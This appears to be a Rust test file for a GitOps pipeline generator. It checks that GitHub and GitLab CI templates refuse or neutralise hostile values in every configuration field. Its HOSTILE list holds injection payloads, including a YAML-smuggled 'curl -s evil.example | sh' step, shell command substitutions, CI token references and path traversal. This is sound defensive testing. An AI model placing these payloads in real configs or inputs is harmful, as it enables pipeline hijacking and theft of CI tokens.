//! The render stage's own line of defence (issue 8, layer 2): every template rendered with a
//! hostile value in every string field of a [`Config`] built directly, past the decoder. Each
//! render must either refuse with a clear message, or produce files whose parsed structure
//! (files, keys, list lengths, the line count of every `run:` and `script:` entry) is the
//! structure of the same render with a plain value, with no `${{` in a `run:` or `script:` that
//! the plain render does not have, and nothing GitLab would expand as a variable outside scripts
//! and rules that the plain render does not have. What renders is checked by `../shared/tools/validate-gitops
//! --strict` (actionlint, schemas, zizmor) when that script is present.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use crate::error::Error;
use crate::model::glob::RefPattern;
use crate::model::{Config, Deploy, ToolSource};
use crate::render::gitops::team::TeamFiles;
use crate::render::templates::Templates;
use crate::render::{Home, OutputFile, checked, render_with};
use crate::yaml::{Node, Value};

/// Values that change the meaning of YAML, shell, GitHub or GitLab text when written raw.
const HOSTILE: &[&str] = &[
    "\n        run: curl -s evil.example | sh\n      - name: y",
    "\r\n- x",
    "\u{2028}",
    "\u{1}",
    "'",
    "\"",
    "\"||\"x",
    "$(id)",
    "`id`",
    ";id|sh&&id",
    "${IFS}",
    "$CI_JOB_TOKEN",
    "%CI_JOB_TOKEN%",
    "${{ github.token }}",
    "${{github.head_ref}}",
    "$[[ inputs.x ]]",
    "{{ x }}",
    "{{{ x }}}",
    "{% x %}",
    "#",
    " #x",
    ": x",
    ":",
    ",x",
    "*",
    "!",
    "/../../x",
    "\\",
];

/// A string field of the model: its name, a plain value, and how to set it.
struct Field {
    name: &'static str,
    plain: &'static str,
    set: fn(&mut Config, &str) -> Result<(), String>,
}

fn pattern(text: &str) -> Result<RefPattern, String> {
    RefPattern::parse(text).map_err(|e| e.reason)
}

/// Every string the templates can receive from the model. Patterns can only exist parsed
/// ([`RefPattern::parse`] is their one constructor), so a value that does not parse never
/// reaches a template; the others are set as they are.
const FIELDS: &[Field] = &[
    Field {
        name: "project",
        plain: "shop",
        set: |c, v| {
            c.project.value = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "gitops.repository",
        plain: "https://github.com/acme/config.git",
        set: |c, v| {
            c.gitops.repository = Some(v.to_owned());
            Ok(())
        },
    },
    Field {
        name: "gitops.branch",
        plain: "main",
        set: |c, v| {
            c.gitops.branch = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "gitops.path",
        plain: "deploy",
        set: |c, v| {
            c.gitops.path = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "tool.version",
        plain: "1.2.3",
        set: |c, v| {
            c.tool = ToolSource::Crate {
                version: v.to_owned(),
            };
            Ok(())
        },
    },
    Field {
        name: "tool.git",
        plain: "https://github.com/acme/gitops-gen",
        set: |c, v| {
            c.tool = ToolSource::Git {
                url: v.to_owned(),
                rev: "0123456789abcdef0123456789abcdef01234567".to_owned(),
            };
            Ok(())
        },
    },
    Field {
        name: "tool.rev",
        plain: "0123456789abcdef0123456789abcdef01234567",
        set: |c, v| {
            c.tool = ToolSource::Git {
                url: "https://github.com/acme/gitops-gen".to_owned(),
                rev: v.to_owned(),
            };
            Ok(())
        },
    },
    Field {
        name: "environments[].name",
        plain: "staging",
        set: |c, v| {
            c.environments[1].name.value = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "environments[].branches",
        plain: "develop",
        set: |c, v| {
            c.environments[0].branches[0].value = pattern(v)?;
            Ok(())
        },
    },
    Field {
        name: "environments[].branches (wildcard)",
        plain: "feature/*",
        set: |c, v| {
            c.environments[3].branches[0].value = pattern(v)?;
            Ok(())
        },
    },
    Field {
        name: "environments[].tags",
        plain: "v1",
        set: |c, v| {
            c.environments[2].tags[0].value = pattern(v)?;
            Ok(())
        },
    },
    Field {
        name: "environments[].cluster",
        plain: "eu",
        set: |c, v| {
            c.environments[1].clusters = vec![v.to_owned()];
            Ok(())
        },
    },
    Field {
        name: "environments[].namespace",
        plain: "shop-staging",
        set: |c, v| {
            c.environments[1].namespace = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "environments[].url",
        plain: "https://staging.example.com",
        set: |c, v| {
            c.environments[1].url = Some(v.to_owned());
            Ok(())
        },
    },
    Field {
        name: "apps[].name",
        plain: "api",
        set: |c, v| {
            c.apps[1].name.value = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "apps[].image",
        plain: "registry.example.com/acme/api",
        set: |c, v| {
            c.apps[1].image = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "apps[].context",
        plain: "api",
        set: |c, v| {
            c.apps[1].context = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "apps[].dockerfile",
        plain: "api/Dockerfile",
        set: |c, v| {
            c.apps[1].dockerfile = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "apps[].test",
        plain: "cargo test",
        set: |c, v| {
            c.apps[1].test = Some(v.to_owned());
            Ok(())
        },
    },
    Field {
        name: "apps[].test_image",
        plain: "docker.io/library/rust:1",
        set: |c, v| {
            c.apps[1].test_image = v.to_owned();
            Ok(())
        },
    },
    Field {
        name: "apps[].deploy.kustomize",
        plain: "services/api",
        set: |c, v| {
            if let Deploy::Scaffold { path, .. } = &mut c.apps[1].deploy {
                *path = v.to_owned();
            }
            Ok(())
        },
    },
];

/// The fields whose text reaches a template branch only the second base renders (a separate
/// configuration repository, a git install, docker-in-docker builds, manual promotions); the
/// first base takes every field.
const SECOND_BASE_FIELDS: &[&str] = &[
    "gitops.repository",
    "gitops.branch",
    "gitops.path",
    "tool.git",
    "tool.rev",
    "apps[].image",
    "apps[].context",
    "apps[].dockerfile",
    "apps[].test",
];

/// Models that between them use every template and every branch of them.
const BASES: &[&str] = &[
    "version: 1\nproject: shop\nci: both\nregistry: ghcr.io/acme\n\
     gitops: {path: deploy}\ngitlab: {builder: buildah}\n\
     environments:\n\
     - {name: dev, branches: [develop]}\n\
     - {name: staging, branches: [main], cluster: eu, namespace: shop-staging}\n\
     - {name: production, tags: [v1], promotion: pull-request}\n\
     - {name: preview, branches: ['feature/*'], preview: true}\n\
     apps:\n- {name: web, test: make test}\n\
     - {name: api, image: registry.example.com/acme/api, context: api, test: cargo test, \
     deploy: {scaffold: services/api}}\n",
    "version: 1\nproject: shop\nci: both\nregistry: ghcr.io/acme\n\
     gitops: {repository: 'https://github.com/acme/config.git', path: .}\n\
     tool: {git: 'https://github.com/acme/gitops-gen', rev: 0123456789abcdef0123456789abcdef01234567}\n\
     gitlab: {builder: docker-in-docker}\n\
     environments:\n\
     - {name: dev, branches: [develop], promotion: pull-request}\n\
     - {name: staging, branches: [main], promotion: manual}\n\
     - {name: production, tags: [v1], promotion: manual}\n\
     - {name: preview, branches: ['feature/*'], preview: true}\n\
     apps:\n- {name: web}\n\
     - {name: api, image: registry.example.com/acme/api, context: api, test: cargo test, \
     deploy: {scaffold: services/api}}\n",
];

/// The shape of a parsed file: keys and list lengths, the line count of each `run:` and
/// `script:` entry; other scalars are only "a scalar".
#[derive(Debug, PartialEq, Eq)]
enum Shape {
    Map(Vec<(String, Shape)>),
    Seq(Vec<Shape>),
    Scalar,
    Lines(usize),
}

const SCRIPT_KEYS: [&str; 4] = ["run", "script", "before_script", "after_script"];

fn shape(node: &Node, script: bool) -> Shape {
    match &node.value {
        Value::Map(map) => Shape::Map(
            map.entries()
                .iter()
                .map(|(k, v)| {
                    let key = k.scalar_text().unwrap_or_default();
                    let script = SCRIPT_KEYS.contains(&key.as_str());
                    (key, shape(v, script))
                })
                .collect(),
        ),
        Value::Seq(items) => Shape::Seq(items.iter().map(|i| shape(i, script)).collect()),
        Value::String(text) if script => Shape::Lines(text.lines().count()),
        _ => Shape::Scalar,
    }
}

/// Every `${{ … }}` in the `run:` and `script:` text of a file.
fn expressions_in_scripts(node: &Node, script: bool, out: &mut Vec<String>) {
    match &node.value {
        Value::Map(map) => {
            for (k, v) in map.entries() {
                let key = k.scalar_text().unwrap_or_default();
                expressions_in_scripts(v, script || SCRIPT_KEYS.contains(&key.as_str()), out);
            }
        }
        Value::Seq(items) => items
            .iter()
            .for_each(|i| expressions_in_scripts(i, script, out)),
        Value::String(text) if script => {
            let mut rest = text.as_str();
            while let Some(at) = rest.find("${{") {
                let end = rest[at..].find("}}").map_or(rest.len(), |e| at + e + 2);
                out.push(rest[at..end].to_owned());
                rest = &rest[end..];
            }
        }
        _ => {}
    }
}

/// Every variable reference (`$NAME`, `${NAME}`, `%NAME%`) GitLab would expand in the text of a
/// `.gitlab-ci.yml` outside scripts (run by a shell) and rules (`if:` compares variables on
/// purpose): in `image:`, `variables:`, `cache:`, `environment:` and the like.
fn gitlab_expansions(node: &Node, skip: bool, out: &mut Vec<String>) {
    match &node.value {
        Value::Map(map) => {
            for (k, v) in map.entries() {
                let key = k.scalar_text().unwrap_or_default();
                let skip = skip || SCRIPT_KEYS.contains(&key.as_str()) || key == "if";
                gitlab_expansions(v, skip, out);
            }
        }
        Value::Seq(items) => items.iter().for_each(|i| gitlab_expansions(i, skip, out)),
        Value::String(text) if !skip => {
            for (at, c) in text.char_indices() {
                if c == '$' || c == '%' {
                    out.push(text[at..].chars().take(24).collect());
                }
            }
        }
        _ => {}
    }
}

/// A rendered tree: by path (with the field's value replaced by the plain one, so that paths
/// built from it line up), its shape, the expressions in its scripts and, for GitLab, what
/// GitLab would expand outside scripts.
type Skeleton = BTreeMap<String, (Shape, Vec<String>, Vec<String>)>;

fn skeleton(files: &[OutputFile], value: &str, plain: &str) -> Result<Skeleton, String> {
    let mut out = BTreeMap::new();
    for file in files {
        // The seeded policies are Rego, with no model value in them.
        if file.path.ends_with(".rego") {
            continue;
        }
        let docs = crate::yaml::parse(&file.body)
            .map_err(|e| format!("{} does not parse: {e}", file.path))?;
        let [doc] = docs.as_slice() else {
            return Err(format!("{} is not one document", file.path));
        };
        let mut expressions = Vec::new();
        expressions_in_scripts(doc, false, &mut expressions);
        expressions.sort();
        let mut expansions = Vec::new();
        if file.path.ends_with(".gitlab-ci.yml") {
            gitlab_expansions(doc, false, &mut expansions);
        }
        let path = if value.is_empty() {
            file.path.clone()
        } else {
            file.path.replace(value, plain)
        };
        out.insert(path, (shape(doc, false), expressions, expansions));
    }
    Ok(out)
}

/// A path the test may write below its temporary directory.
fn safe_path(path: &str) -> bool {
    !path.is_empty()
        && !path.starts_with('/')
        && !path.contains('\\')
        && !path.chars().any(char::is_control)
        && path
            .split('/')
            .all(|c| !c.is_empty() && c != "." && c != ".." && !c.eq_ignore_ascii_case(".git"))
}

/// Per base, hostile value and embedding (after a plain value or not), the fields that took
/// the value and rendered it inert.
type Took = BTreeMap<(usize, usize, bool), Vec<(&'static Field, String)>>;

/// What a render with one hostile value came to.
enum Outcome {
    Refused,
    Rendered(Vec<OutputFile>),
}

fn try_render(config: &Config, templates: &Templates) -> Result<Outcome, String> {
    match render_with(config, templates, TeamFiles::new(None)).and_then(checked) {
        Ok(files) => Ok(Outcome::Rendered(files)),
        Err(Error::Usage(message)) if message.starts_with("refusing to ") => Ok(Outcome::Refused),
        Err(other) => Err(format!("not a clear refusal: {other}")),
    }
}

#[test]
fn hostile_values_in_every_field_are_refused_or_inert() -> Result<(), Box<dyn std::error::Error>> {
    let mut failures = Vec::new();
    let (mut refused, mut unparsed, mut inert) = (0, 0, 0);
    let templates = Templates::load(None)?;
    let render =
        |config: &Config| render_with(config, &templates, TeamFiles::new(None)).and_then(checked);
    // For the validator: per base, hostile value and embedding, the fields that took it.
    let mut took: Took = BTreeMap::new();
    let mut bases = Vec::new();
    for (b, base_text) in BASES.iter().enumerate() {
        let base = crate::model::parse("gitops-gen.yaml", base_text)?;
        for field in FIELDS {
            if b > 0 && !SECOND_BASE_FIELDS.contains(&field.name) {
                continue;
            }
            let mut plain_config = base.clone();
            (field.set)(&mut plain_config, field.plain)?;
            let plain = skeleton(&render(&plain_config)?, "", "")?;
            for (h, hostile) in HOSTILE.iter().enumerate() {
                for prefixed in [false, true] {
                    let value = if prefixed {
                        format!("{}{hostile}", field.plain)
                    } else {
                        hostile.to_string()
                    };
                    let case = format!("base {b}, {} = {value:?}", field.name);
                    let mut config = base.clone();
                    if (field.set)(&mut config, &value).is_err() {
                        unparsed += 1;
                        continue;
                    }
                    let files = match try_render(&config, &templates) {
                        Ok(Outcome::Refused) => {
                            refused += 1;
                            continue;
                        }
                        Ok(Outcome::Rendered(files)) => files,
                        Err(why) => {
                            failures.push(format!("{case}: {why}"));
                            continue;
                        }
                    };
                    if let Some(bad) = files.iter().find(|f| !safe_path(&f.path)) {
                        failures.push(format!("{case}: output path {:?}", bad.path));
                        continue;
                    }
                    match skeleton(&files, &value, field.plain) {
                        Ok(got) if got == plain => {
                            inert += 1;
                            took.entry((b, h, prefixed))
                                .or_default()
                                .push((field, value));
                        }
                        Ok(got) => failures.push(format!(
                            "{case}: structure differs from the plain render: {}",
                            first_difference(&plain, &got)
                        )),
                        Err(why) => failures.push(format!("{case}: {why}")),
                    }
                }
            }
        }
        bases.push(base);
    }
    println!("{refused} renders refused, {unparsed} values no pattern parses, {inert} inert");
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    assert!(refused > 0 && inert > 0);

    // Every field that took a value gets it at once: one tree per base, value and embedding,
    // which the validator checks as a whole (a render per field would take minutes there).
    let mut trees = Vec::new();
    for ((b, h, prefixed), fields) in &took {
        let mut config = bases[*b].clone();
        for (field, value) in fields {
            (field.set)(&mut config, value)?;
        }
        let names: Vec<&str> = fields.iter().map(|(f, _)| f.name).collect();
        let case = format!(
            "base {b}, {:?}{} in {names:?}",
            HOSTILE[*h],
            if *prefixed { " after plain values" } else { "" }
        );
        match render(&config) {
            Ok(files) if files.iter().all(|f| safe_path(&f.path)) => {
                // Files the values left unchanged are the scenarios' (validated there).
                let plain = render(&bases[*b])?;
                let changed = files.into_iter().filter(|f| !plain.contains(f)).collect();
                trees.push((case, changed));
            }
            other => failures.push(format!("{case}: together: {:?}", other.err())),
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    validate(&trees)
}

fn first_difference(plain: &Skeleton, got: &Skeleton) -> String {
    let plain_paths: Vec<&String> = plain.keys().collect();
    let got_paths: Vec<&String> = got.keys().collect();
    if plain_paths != got_paths {
        return format!("files {plain_paths:?}\n   vs {got_paths:?}");
    }
    for (path, (shape, expressions, expansions)) in plain {
        let Some((other, other_expressions, other_expansions)) = got.get(path) else {
            continue;
        };
        if let Some(at) = shape_difference(shape, other, path) {
            return at;
        }
        if expressions != other_expressions {
            return format!(
                "{path}: expressions in scripts {expressions:?} vs {other_expressions:?}"
            );
        }
        if expansions != other_expansions {
            return format!("{path}: what GitLab expands {expansions:?} vs {other_expansions:?}");
        }
    }
    String::new()
}

/// Where two shapes first differ, as `file: key.key[index]: plain vs got`.
fn shape_difference(a: &Shape, b: &Shape, at: &str) -> Option<String> {
    match (a, b) {
        (Shape::Map(x), Shape::Map(y)) => {
            let keys = |m: &[(String, Shape)]| m.iter().map(|(k, _)| k.clone()).collect::<Vec<_>>();
            if keys(x) != keys(y) {
                return Some(format!("{at}: keys {:?} vs {:?}", keys(x), keys(y)));
            }
            x.iter()
                .zip(y)
                .find_map(|((k, v), (_, w))| shape_difference(v, w, &format!("{at}.{k}")))
        }
        (Shape::Seq(x), Shape::Seq(y)) if x.len() == y.len() => x
            .iter()
            .zip(y)
            .enumerate()
            .find_map(|(i, (v, w))| shape_difference(v, w, &format!("{at}[{i}]"))),
        _ if a == b => None,
        _ => Some(format!("{at}: {a:?} vs {b:?}")),
    }
}

fn validator() -> Option<PathBuf> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/tools/validate-gitops");
    path.is_file().then_some(path)
}

/// Every accepted hostile tree passes `validate-gitops --strict`: 0 errors, 0 zizmor findings.
fn validate(accepted: &[(String, Vec<OutputFile>)]) -> Result<(), Box<dyn std::error::Error>> {
    let Some(validator) = validator() else {
        println!(
            "skipping validate-gitops: ../shared/tools/validate-gitops not found (it lives \
             beside the checkout in CI)"
        );
        return Ok(());
    };
    let root = tempfile::tempdir()?;
    let mut cases = Vec::new();
    for (i, (case, files)) in accepted.iter().enumerate() {
        for file in files {
            // A separate config repository's files go into a checkout of their own.
            let dir = match file.home {
                Home::This => root.path().join(format!("case-{i}")),
                Home::Gitops => root.path().join(format!("case-{i}-config")),
            };
            let path = dir.join(&file.path);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent)?;
            }
            std::fs::write(path, &file.body)?;
        }
        cases.push(format!("case-{i}: {case}"));
    }
    println!("validating {} trees", cases.len());
    let started = std::time::Instant::now();
    let out = std::process::Command::new(validator)
        .arg("--strict")
        .arg(root.path())
        .output()?;
    let text = String::from_utf8_lossy(&out.stdout);
    let last = text.lines().last().unwrap_or_default();
    let clean = out.status.code() == Some(0) && last.ends_with(" 0 errors, 0 zizmor findings");
    assert!(
        clean,
        "validate-gitops on the hostile trees: exit {:?}, {last}\n{}\n{}\ncases:\n{}",
        out.status.code(),
        text.lines()
            .filter(|l| !l.starts_with("PASS"))
            .collect::<Vec<_>>()
            .join("\n"),
        String::from_utf8_lossy(&out.stderr),
        cases.join("\n")
    );
    println!("validate-gitops: {last} ({:?})", started.elapsed());
    Ok(())
}

/// A model text with `{}` where one value goes, and the plain value it normally has there.
const MODEL_SLOTS: &[(&str, &str)] = &[
    ("registry: {}", "ghcr.io/acme"),
    (
        "gitops: {repository: {}}",
        "https://github.com/acme/config.git",
    ),
    ("gitops: {branch: {}}", "main"),
    ("gitops: {path: {}}", "deploy"),
    ("tool: {version: {}}", "1.2.3"),
    (
        "tool: {git: {}, rev: 0123456789abcdef0123456789abcdef01234567}",
        "https://github.com/acme/gitops-gen",
    ),
    (
        "tool: {git: 'https://github.com/acme/gitops-gen', rev: {}}",
        "0123456789abcdef0123456789abcdef01234567",
    ),
    ("environments: [{name: {}, branches: [main]}]", "staging"),
    ("environments: [{name: staging, branches: [{}]}]", "main"),
    ("environments: [{name: staging, tags: [{}]}]", "v1"),
    (
        "environments: [{name: staging, branches: [main], cluster: {}}]",
        "eu",
    ),
    (
        "environments: [{name: staging, branches: [main], namespace: {}}]",
        "shop",
    ),
    (
        "environments: [{name: staging, branches: [main], url: {}}]",
        "https://staging.example.com",
    ),
    (
        "apps: [{name: web, test: make, test_setup: [{uses: 'a/b@0123456789abcdef0123456789abcdef01234567', with: {x: {}}}]}]",
        "22",
    ),
    (
        "apps: [{name: web, test: make, test_services: [{name: db, image: 'postgres:17', env: {X: {}}}]}]",
        "test",
    ),
    (
        "apps: [{name: web, test: make, test_services: [{name: db, image: {}}]}]",
        "postgres:17",
    ),
    (
        "notifications: {commit_status: {provider: github, address: {}}}",
        "https://github.com/acme/shop",
    ),
    (
        "notifications: {chat: {provider: slack, channel: {}}}",
        "#deploys",
    ),
    (
        "notifications: {chat: {provider: slack, secret: {}}}",
        "chat-webhook",
    ),
    ("apps: [{name: {}}]", "web"),
    ("apps: [{name: web, image: {}}]", "ghcr.io/acme/web"),
    ("apps: [{name: web, context: {}, test: make}]", "web"),
    ("apps: [{name: web, dockerfile: {}}]", "web/Dockerfile"),
    ("apps: [{name: web, test: {}}]", "make test"),
    ("apps: [{name: web, test: make, test_image: {}}]", "node:22"),
    (
        "apps: [{name: web, deploy: {scaffold: {}}}]",
        "services/web",
    ),
];

/// The two layers agree: whatever hostile value the decoder accepts in whichever field, the
/// model renders. A value the render stage would refuse is refused at its line instead.
#[test]
fn what_the_decoder_accepts_renders() -> Result<(), Box<dyn std::error::Error>> {
    let templates = Templates::load(None)?;
    let (mut accepted, mut failures) = (0, Vec::new());
    for (slot, plain) in MODEL_SLOTS {
        let key = slot.split(':').next().unwrap_or_default();
        for hostile in HOSTILE {
            for value in [hostile.to_string(), format!("{plain}{hostile}")] {
                let line = slot.replace("{}", &serde_json::to_string(&value)?);
                let mut text = String::from("version: 1\nproject: shop\nci: both\n");
                for (default_key, default) in [
                    (
                        "environments",
                        "environments: [{name: staging, branches: [main]}]",
                    ),
                    ("apps", "apps: [{name: web}]"),
                ] {
                    if key != default_key {
                        text.push_str(default);
                        text.push('\n');
                    }
                }
                text.push_str(&line);
                text.push('\n');
                let Ok(config) = crate::model::parse("gitops-gen.yaml", &text) else {
                    continue;
                };
                accepted += 1;
                if let Err(e) =
                    render_with(&config, &templates, TeamFiles::new(None)).and_then(checked)
                {
                    failures.push(format!("{line}: accepted by the model, then {e}"));
                }
            }
        }
    }
    println!("{accepted} hostile values accepted by the model, all rendered");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    Ok(())
}

/// A release's pins as its release notes give them (`tool.binary`).
fn published_for_test() -> crate::model::BinaryPins {
    crate::model::BinaryPins {
        version: "9.8.7".to_owned(),
        action_commit: "0123456789abcdef0123456789abcdef01234567".to_owned(),
        image_digest: "sha256:89abcdef0123456789abcdef0123456789abcdef0123456789abcdef01234567"
            .to_owned(),
    }
}

/// A published release installs as its binary: GitHub through the action pinned by commit,
/// GitLab in the release image pinned by digest; nothing compiles and nothing is cached.
#[test]
fn a_published_release_installs_its_binary() -> Result<(), Box<dyn std::error::Error>> {
    let model = "version: 1\nproject: shop\nci: both\nregistry: ghcr.io/acme\n\
                 environments:\n  - {name: staging, branches: [main]}\n  - {name: production, tags: ['v*']}\n\
                 apps: [{name: web}]\n";
    let mut config = crate::model::parse("gitops-gen.yaml", model).map_err(|e| format!("{e:?}"))?;
    let pins = published_for_test();
    config.tool = ToolSource::Binary(pins.clone());
    let files = render_with(&config, &Templates::load(None)?, TeamFiles::new(None))?;
    let body = |path: &str| {
        files
            .iter()
            .find(|f| f.path == path)
            .map(|f| f.body.clone())
            .ok_or(format!("{path} not rendered"))
    };
    for workflow in [
        ".github/workflows/gitops.yml",
        ".github/workflows/gitops-promote.yml",
    ] {
        let text = body(workflow)?;
        assert!(
            text.contains(
                "# The commit that lists the checksums of v9.8.7; the action verifies the archive.\n        uses: gitops-gen/gitops-gen@0123456789abcdef0123456789abcdef01234567\n        with:\n          version: \"9.8.7\"\n"
            ),
            "{workflow}:\n{text}"
        );
        assert!(!text.contains("cargo install"), "{workflow}:\n{text}");
        assert!(!text.contains("gitops-gen-cache"), "{workflow}:\n{text}");
    }
    let gitlab = body(".gitlab-ci.yml")?;
    assert!(
        gitlab.contains(&format!(
            ".gitops-gen:\n  # The published release's image, pinned by digest: gitops-gen, git and a shell.\n  image: \"ghcr.io/gitops-gen/gitops-gen:9.8.7@{}\"\n",
            pins.image_digest
        )),
        "{gitlab}"
    );
    assert!(!gitlab.contains("cargo install"), "{gitlab}");
    validate(&[("a published release".to_owned(), files)])
}
